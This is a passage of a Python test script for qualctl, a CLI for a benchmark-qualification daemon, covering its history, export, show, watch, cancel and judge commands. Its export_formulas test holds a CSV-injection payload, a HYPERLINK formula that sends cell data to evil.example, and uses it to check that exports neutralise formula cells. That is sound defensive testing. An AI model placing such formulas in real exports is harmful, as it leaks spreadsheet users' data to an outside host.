    check(code == EXIT_USAGE and "--limit must be an integer >= 1" in err, "bad limit", err)


@case
def history_export(ctx):
    """history and export read one history request: the filters land in it;
    the table shows the change with its interval; --csv quotes per RFC 4180
    with one label column per key, sorted; --lnt gives LNT reports with the
    candidate's median in seconds as execution_time."""
    sha = "ab" * 32
    jobs = [
        {"job": "j000005", "state": "done", "verdict": "neutral",
         "submitted": "2026-12-01T02:00:00Z", "finished": "2026-12-01T02:10:00Z",
         "labels": {"commit": "c1", "url": 'https://ci/a,"b"\nc'},
         "baseline": {"path": "/b.so", "sha256": sha}, "candidate": {"path": "/c.so", "sha256": sha},
         "cases": [{"case": "gemm-1", "verdict": "equivalent", "ratio": 1.0123,
                    "ci_low": 0.995, "ci_high": 1.03, "p_holm": 0.2, "baseline_ns": 1000.0,
                    "candidate_ns": 1012.5, "timed": True},
                   {"case": "conv-2", "verdict": "not_timed", "ratio": None, "ci_low": None,
                    "ci_high": None, "p_holm": None, "baseline_ns": None,
                    "candidate_ns": None, "timed": False}]},
        {"job": "j000009", "state": "done", "verdict": "regression",
         "submitted": "2026-12-02T02:00:00Z", "finished": "2026-12-02T02:10:00Z",
         "labels": {"build": "n2", "commit": "c2"},
         "baseline": {"path": "/b.so", "sha256": sha}, "candidate": {"path": "/c.so", "sha256": sha},
         "cases": [{"case": "gemm-1", "verdict": "slower", "ratio": 1.25, "ci_low": 1.2,
                    "ci_high": 1.3, "p_holm": 0.001, "baseline_ns": 1000.0,
                    "candidate_ns": 1250.0, "timed": True}]},
    ]

    def handler(req):
        return [reply("history", jobs=jobs)]
    fake = ctx.serve(handler)
    code, out, err = ctx.run("history", "--case", "gemm-1", "--label", "commit=c1",
                             "--label", "build=n2", "--limit", "7")
    check(code == 0, "history exit", out, err)
    check(fake.requests[-1] == {"op": "history", "id": 1, "case": "gemm-1", "limit": 7,
                                "labels": {"commit": "c1", "build": "n2"}},
          "history request", fake.requests)
    lines = out.splitlines()
    check(lines[0] == "case gemm-1" and lines[1].split()[:4] == ["job", "finished", "labels",
                                                                 "verdict"], "table head", out)
    check("+1.23% [-0.50%, +3.00%]" in lines[2] and "+25.00% [+20.00%, +30.00%]" in lines[3]
          and "build=n2 commit=c2" in lines[3] and "2026-12-02" in lines[3], "table rows", out)
    check("case conv-2" in out, "second case", out)
    code, out, err = ctx.run("history", "--label", "a=1", "--label", "a=2")
    check(code == EXIT_USAGE and "--label 'a' is given twice" in err, "repeated label", err)

    code, out, err = ctx.run("export", "--csv")
    check(code == 0, "export --csv exit", out, err)
    rows = list(csv.reader(io.StringIO(out, newline="")))
    head = rows[0]
    check(head[:5] == ["job", "state", "verdict", "submitted", "finished"] and
          head[-3:] == ["label:build", "label:commit", "label:url"], "csv head", out)
    check(len(rows) == 4 and all(len(r) == len(head) for r in rows), "csv rows", out)
    col = {n: i for i, n in enumerate(head)}
    check(rows[1][col["label:url"]] == 'https://ci/a,"b"\nc' and
          rows[3][col["label:url"]] == "" and rows[3][col["label:build"]] == "n2",
          "csv labels", out)
    check(rows[1][col["ratio"]] == "1.0123" and rows[1][col["candidate_ns"]] == "1012.5" and
          rows[1][col["timed"]] == "true" and rows[2][col["ratio"]] == "" and
          rows[2][col["case_verdict"]] == "not_timed" and rows[1][col["baseline_sha256"]] == sha,
          "csv cells", out)
    check(out.count("\r\n") == 4, "csv lines end with CRLF", repr(out))

    code, out, err = ctx.run("export", "--lnt", "--machine", "m1")
    check(code == 0, "export --lnt exit", out, err)
    reps = json.loads(out)
    check(len(reps) == 2 and all(r["format_version"] == "2" and r["machine"] == {"name": "m1"}
                                 for r in reps), "lnt reports", out)
    run = reps[0]["run"]
    check(run["start_time"] == "2026-12-01T02:00:00" and run["end_time"] == "2026-12-01T02:10:00"
          and run["commit"] == "c1" and run["llvm_project_revision"] == "5" and
          run["qual_job"] == "j000005", "lnt run", out)
    tests = reps[0]["tests"]
    check(tests[0]["name"] == "qual.gemm-1" and abs(tests[0]["execution_time"][0] - 1.0125e-6) < 1e-15
          and tests[1] == {"name": "qual.conv-2"}, "lnt tests", out)
    code, out, err = ctx.run("export", "--csv", "--machine", "m1")
    check(code == EXIT_USAGE and "--machine is for --lnt" in err, "machine without lnt", err)


@case
def export_formulas(ctx):
    """export --csv neutralises text cells a spreadsheet would run as a
    formula (OWASP, CSV injection): a cell that begins with = + - @, a tab
    or CR gets a single quote before it and is quoted; a cell with a
    semicolon is quoted; numbers quald sends as numbers stay numbers, a
    negative one included. --lnt keeps every value exact."""
    sha = "cd" * 32
    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    labels = {"a": formula, "b": "+1", "c": "@x", "d": "-2+3", "e": "\tx", "f": "\rx",
              "g": "x;=1+1", "h": "ok", "i": "-0.97"}
    jobs = [{"job": "j000003", "state": "done", "verdict": "neutral",
             "submitted": "2026-12-01T02:00:00Z", "finished": "2026-12-01T02:10:00Z",
             "labels": labels,
             "baseline": {"path": "/b.so", "sha256": sha}, "candidate": {"path": "/c.so", "sha256": sha},
             "cases": [{"case": "-gemm", "verdict": "equivalent", "ratio": 0.99,
                        "ci_low": -0.97, "ci_high": 1.5, "p_holm": 0.2, "baseline_ns": 1000.0,
                        "candidate_ns": 990.0, "timed": True}]}]

    def handler(req):
        return [reply("history", jobs=jobs)]
    ctx.serve(handler)
    code, out, err = ctx.run("export", "--csv")
    check(code == 0, "export --csv exit", out, err)
    rows = list(csv.reader(io.StringIO(out, newline="")))
    check(len(rows) == 2, "csv rows", out)
    col = {n: i for i, n in enumerate(rows[0])}
    row = rows[1]
    for key, value in labels.items():
        cell = row[col["label:" + key]]
        if value[0] in "=+-@\t\r":
            check(cell == "'" + value, f"label {key!r} neutralised", repr(cell), out)
            quoted = '"\'' + value.replace('"', '""') + '"'
            check(quoted in out, f"label {key!r} quoted whole", repr(quoted), out)
        else:
            check(cell == value, f"label {key!r} as it is", repr(cell), out)
    check('"x;=1+1"' in out, "a cell with a semicolon is quoted", out)
    check(row[col["case"]] == "'-gemm", "a case name is text", out)
    check(row[col["ci_low"]] == "-0.97" and ",-0.97," in out, "a negative number stays a number",
          out)
    code, out, err = ctx.run("export", "--lnt")
    check(code == 0, "export --lnt exit", out, err)
    run = json.loads(out)[0]["run"]
    check(all(run[k] == v for k, v in labels.items()), "lnt keeps labels exact", out)


@case
def show_cancel(ctx):
    lines = timed_lines("regression")

    def handler(req):
        if req["op"] == "show" and req["job"] == JOB:
            return [reply("show", job=JOB, state="done", lines=len(lines))] + lines
        if req["op"] == "show" and req["job"] == "j000043":
            return [reply("show", job="j000043", state="done", lines=len(lines),
                          fixtures=["/srv/fx/a", "/srv/fx/b"])] + lines
        if req["op"] == "show":
            return [json.dumps({"type": "refused", "op": "show", "id": 1,
                                "message": "no job '%s'" % req["job"]})]
        return [reply("cancel", job=req["job"], state="cancelled")]
    ctx.serve(handler)
    code, out, err = ctx.run("show", JOB)
    check(code == EXIT_REGRESSION, "show exits with the job's verdict status", out, err)
    check(out.startswith("job j000042: done, %d lines\n" % len(lines)), "show header", out)
    rows = [l.split()[:2] for l in out.splitlines()]
    check(["gemm_i8-256x512x256", "slower"] in rows and "verdict: regression (" in out,
          "show's table", out)
    check("fixtures:" not in out, "show without fixture directories", out)
    # A job with fixture directories: each under the header line.
    code, out, err = ctx.run("show", "j000043")
    check(code == EXIT_REGRESSION and out.startswith("job j000043: done, %d lines\nfixtures: '/srv/fx/a'\n"
                                       "fixtures: '/srv/fx/b'\n" % len(lines)),
          "show's fixture directories", out)
    code, out, err = ctx.run("show", JOB, "--json")
    check(out == "".join(l + "\n" for l in lines), "show --json: the stored lines", out[:500])
    code, out, err = ctx.run("show", "j999")
    check(code == EXIT_USAGE and "no job 'j999'" in err, "unknown job refused", err)
    code, out, err = ctx.run("cancel", JOB, "--json")
    check(code == 0 and json.loads(out)["state"] == "cancelled", "cancel --json", out)
    code, out, err = ctx.run("cancel")
    check(code == EXIT_USAGE and "needs one job id" in err, "cancel usage", err)


@case
def watch(ctx):
    """Interleaved jobs, each line prefixed; the request carries --after;
    the daemon going away ends with 5, ^C with 0."""
    a = timed_lines("regression", job="j000001")
    b = compile_only_lines(ctx.data, job="j000002")
    mixed = [x for pair in zip(a, b) for x in pair] + a[len(b):]
    fake = ctx.serve(lambda req: [reply("watch")] + mixed + ["CLOSE"])
    code, out, err = ctx.run("watch", "--after", "j000000:17")
    check(fake.requests[0] == {"op": "watch", "id": 1, "after_job": "j000000",
                               "after_seq": 17}, "watch request", fake.requests)
    expect_status((code,), EXIT_NO_DAEMON, out, err)
    check("[j000002] case attention_f16-128: compiled (identical code)\n" in out, "job b", out)
    check("[j000001] case gemm_i8-256x512x256: 30 pairs, candidate faster in 0, slower in 30\n"
          in out, "job a pairs", out)
    check("[j000001] case gemm_i8-256x512x256: 30 pairs, verdict slower, ratio 1.0500 "
          "[1.0450, 1.0550], p_holm 1.86e-08 (code differs)\n" in out, "case verdict", out)
    check("[j000002] verdict: not_timed (9 not_timed)\n" in out and
          "[j000001] verdict: regression (" in out, "both verdicts", out)
    code, out, err = ctx.run("watch", "--json")
    check(out == "".join(l + "\n" for l in mixed), "watch --json passes lines through", out[:300])
    fake.requests.clear()
    code, out, err = ctx.run("watch", "--after", "j000005")
    check(fake.requests[0] == {"op": "watch", "id": 1, "after_job": "j000005"},
          "--after JOB: after the whole job", fake.requests)
    for bad in ("j5:x", "j5:-2", ":3", ""):
        code, out, err = ctx.run("watch", "--after", bad)
        check(code == EXIT_USAGE and "--after must be JOB or JOB:SEQ" in err, "bad --after", err)
    ctx.fresh()
    ctx.serve(lambda req: [reply("watch")] + a[:3] + ["HOLD"])
    code, out, err = ctx.interrupt("watch")
    expect_status((code,), EXIT_PASS, out, err)
    check(out.startswith(b"[j000001] start: 3 cases"), "lines before ^C", out)


@case
def usage_errors(ctx):
    for args, text in [
        (["submit", "/b.so", "/c.so", "--frobnicate"], "unknown option '--frobnicate'"),
        (["submit", "/b.so"], "needs the baseline and the candidate"),
        (["submit", "/b.so", "/c.so", "--pairs", "many"],
         "'pairs' must be an integer >= 30, got 'many'"),
        (["submit", "/b.so", "/c.so", "--alpha"], "option '--alpha' needs a value"),
        (["submit", "/b.so", "/c.so", "--fixtures", ""], "'fixtures' entry 0 is empty"),
        (["submit", "/b.so", "/c.so", "--fixtures"], "option '--fixtures' needs a value"),
        (["status", "--limit", "3"], "unknown option '--limit'"),
        (["--bogus", "status"], "unknown option '--bogus'"),
        (["nonsense"], "unknown command 'nonsense'"),
        ([], "usage: qualctl"),
        (["--socket", "/x", "--tcp", "h:1", "status"], "give one"),
        (["--tcp", "nohostport", "status"], "must be HOST:PORT"),
        (["--socket", "/" + "x" * 200, "status"], "must be 1 to 107 bytes long"),
    ]:
        code, out, err = ctx.run(*args, socket_opt=False)
        check(code == EXIT_USAGE, "%s: exit %d, expected 4" % (args, code), out, err)
        check(text in err, "%s: message %r" % (args, text), err)
    for args in (["--help"], ["submit", "--help"], ["help", "watch"], ["judge", "--help"]):
        code, out, err = ctx.run(*args, socket_opt=False)
        check(code == 0 and out.startswith("usage: qualctl"), "%s" % args, out, err)


@case
def judge_shared(ctx):
    """qualctl judge is qual-judge: the same lines and the same status, on a
    stored run and on a stored job log (job and seq ignored)."""
    run = os.path.join(ctx.tmp, "run.jsonl")
    with open(run, "w") as f:
        f.write("".join(l + "\n" for l in timed_lines("neutral")))
    for args in ([run], ["--margin", "0.1", run], [os.path.join(ctx.data, "compile_only.jsonl")]):
        a = subprocess.run([ctx.judge] + args, capture_output=True)
        b = subprocess.run([ctx.qualctl, "judge"] + args, capture_output=True)
        check(a.returncode == b.returncode and a.stdout == b.stdout and a.stdout,
              "same verdicts from qual-judge and qualctl judge %s" % args,
              a.stdout.decode(), b.stdout.decode(), b.stderr.decode())
    b = subprocess.run([ctx.qualctl, "judge", run], capture_output=True)
    check(b.returncode == EXIT_REGRESSION, "the pairs decide (1.05 is slower), not the "
          "stored verdict line", b.stdout.decode())
    b = subprocess.run([ctx.qualctl, "judge", "--frob"], capture_output=True)
    check(b.returncode == EXIT_USAGE and b"unknown option '--frob'" in b.stderr, "judge usage",
          b.stderr.decode())


def main():
    if sys.argv[1:] == ["--list"]:
        print("\n".join(CASES))
        return 0
    qualctl, judge, data, name = sys.argv[1:5]
    ctx = Ctx(qualctl, judge, data)
    try:
        CASES[name](ctx)
    finally:
        if ctx.fake:
            ctx.fake.close()
    print("ok: " + name)
    return 0


if __name__ == "__main__":
    sys.exit(main())
